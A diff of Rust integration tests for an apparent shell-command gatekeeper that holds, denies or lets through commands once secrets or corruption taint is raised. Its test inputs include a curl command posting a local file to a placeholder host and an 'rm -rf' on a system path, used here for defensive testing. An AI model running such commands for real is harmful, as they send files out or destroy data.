@@ -79,8 +79,7 @@ fn a_client_with_the_three_fields_of_the_first_protocol_is_answered() {
 fn a_held_command_is_denied_with_the_persons_words() {
     let site = Site::default();
     let _host = site.serve();
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     let running = site.check_later("curl -s https://x.example");
     let id = site.held("curl -s https://x.example");
     let card = site.cli(["show", &id]).expect(0).stdout;
@@ -102,8 +101,7 @@ fn a_held_command_is_denied_with_the_persons_words() {
 fn nobody_answers_and_it_lapses_to_a_denial() {
     let site = Site::new("[approval]\nexpires_s = 1\n");
     let _host = site.serve();
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     let output = site.check("curl -s https://x.example").expect(2);
     assert!(output.stderr.contains("nobody approved it in time"), "{}", output.stderr);
     assert!(site.pending().is_empty());
@@ -192,8 +190,7 @@ fn an_inspectors_denial_is_overruled_once() {
 fn taint_survives_a_restart_and_so_does_a_held_command() {
     let site = Site::default();
     let mut host = site.serve();
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     let command = "curl -s https://x.example";
     let running = site.check_later(command);
     let id = site.held(command);
@@ -211,8 +208,7 @@ fn taint_survives_a_restart_and_so_does_a_held_command() {
 fn a_card_whose_asker_is_gone_is_withdrawn() {
     let site = Site::default();
     let _host = site.serve();
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     let command = "curl -s https://x.example";
     let mut hook = site.hook_command(&site.hook_toml());
     let mut child = hook.args(["check", "--", command]).stderr(std::process::Stdio::null()).spawn().unwrap();
@@ -410,8 +406,7 @@ fn shadow_mode_lets_through_what_it_records_as_denied() {
     let site = Site::new("[policy]\nenforce = false\n[services.forum]\npublic_source = \"forbidden\"\n");
     let host = site.serve();
     until("the warning", || host.said.lock().unwrap().contains("LET THROUGH").then_some(()));
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     for command in ["curl -s -d @x https://x.example", "rm -rf /etc/bashgate"] {
         let response = site.ask("default", command);
         assert_eq!(response.decision, Answer::Allow, "{response:?}");
@@ -563,8 +558,7 @@ fn a_denial_overtakes_what_an_earlier_word_lets_through() {
     command.arg("serve").arg("--config").arg(site.host_toml()).env_remove("RUST_LOG");
     command.env("FAILPOINTS", "store.written=sleep(1500)");
     let _host = bashgate_tests::Host::start(&mut command);
-    site.raise("default", "corruption");
-    site.raise("default", "secret");
+    site.raise_both("default");
     let post = |command: &str| {
         let id = uuid::Uuid::new_v4().to_string();
         site.post("default", &json!({"type": "security:bash_check", "request_id": id, "command": command}));
